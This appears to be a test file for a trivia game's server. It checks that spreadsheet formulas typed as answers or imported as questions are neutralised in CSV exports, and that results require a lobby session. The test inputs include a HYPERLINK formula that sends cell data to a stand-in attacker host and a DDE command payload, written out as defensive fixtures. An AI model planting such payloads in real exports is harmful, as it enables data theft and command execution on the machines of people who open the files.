// The attack: an answer `=HYPERLINK(...)` went into the results CSV as is, the results needed
// no session, and the own-questions export did the same with a host's imported pack. Now every cell
// that starts like a formula is neutralised, and the results need a seat in that lobby.
import { afterAll, beforeAll, expect, test } from "bun:test";
import Papa from "papaparse";
import type { Question } from "../../src/game/types";
import { call, startTestApp, type TestApp } from "../support/app";
import { FakeClock } from "../support/fake-clock";
import { exactJudge, party, questionsFrom, waitForPhase } from "../support/rest";

const ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for bonus")';
const ONE: Question[] = [{ category: "Space", question: "Which planet is called the Red Planet?", answer: "Mars", aliases: [] }];

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp({}, { clock: new FakeClock(), questions: questionsFrom(ONE), judge: exactJudge });
});
afterAll(() => app.dispose());

const post = (path: string, token: string, body?: unknown) => call(app, "POST", `/api/lobby/${path}`, { token, body });
const get = (path: string, token?: string) => fetch(`${app.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
const cells = async (res: Response) => Papa.parse<string[]>((await res.text()).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.flat();

test("a formula typed as an answer reaches the results CSV neutralised, and only players of the lobby may download it", async () => {
  const { code, host, players } = await party(app, "Mallory");
  const mallory = players[0]!;
  expect((await post("updateSettings", host.token, { settings: { rounds: 1 } })).status).toBe(200);
  expect((await post("start", host.token)).status).toBe(200);
  expect((await post("startRound", host.token, {})).status).toBe(200);
  expect((await post("submitAnswer", mallory.token, { isSteal: false, answer: ATTACK, team: "red", roundNumber: 1 })).status).toBe(200);
  expect((await post("submitAnswer", host.token, { isSteal: false, answer: "@SUM(A1)\nMars", team: "blue", roundNumber: 1 })).status).toBe(200);
  await waitForPhase(app, code, "complete");

  // A stranger, and a player of another lobby, are refused.
  expect((await get(`/api/lobby/${code}/results/csv`)).status).toBe(401);
  const other = await party(app);
  expect((await get(`/api/lobby/${code}/results/csv`, other.host.token)).status).toBe(401);

  const csv = await get(`/api/lobby/${code}/results/csv`, host.token);
  expect(csv.status).toBe(200);
  const all = await cells(csv);
  expect(all).toContain(`'${ATTACK}`);
  // A line break after the formula: Papa's own pattern (`escapeFormulae: true`) would let this through.
  expect(all).toContain("'@SUM(A1)\nMars");
  expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
});

test("own questions that look like formulas export neutralised and import back as they were", async () => {
  const { host } = await party(app);
  const tricky = [
    { category: "@Cmd", question: '=cmd|" /C calc"!A0\nline two', answer: "-40", aliases: ["+forty"] },
    // (Own questions are trimmed on the way in, so no tab or carriage return starts one.)
    { category: "+Plus", question: "What is one and one?", answer: "=1+1", aliases: [] },
  ];
  expect((await post("questions", host.token, { questions: tricky })).status).toBe(200);
  const exported = await get("/api/lobby/questions/export?format=csv", host.token);
  const text = await exported.text();
  const all = await cells(new Response(text));
  expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  expect(all).toContain("'-40");

  // The file comes back into another lobby exactly as written.
  const { host: other } = await party(app);
  expect((await post("questions/import", other.token, { name: "back.csv", text })).status).toBe(200);
  const kept = async (token: string) => (await call(app, "GET", "/api/lobby/questions", { token })).body.questions.map(({ category, question, answer, aliases }: Question) => ({ category, question, answer, aliases }));
  expect(await kept(other.token)).toEqual(await kept(host.token));
  expect((await kept(other.token))[1]).toEqual(tricky[1]);
});
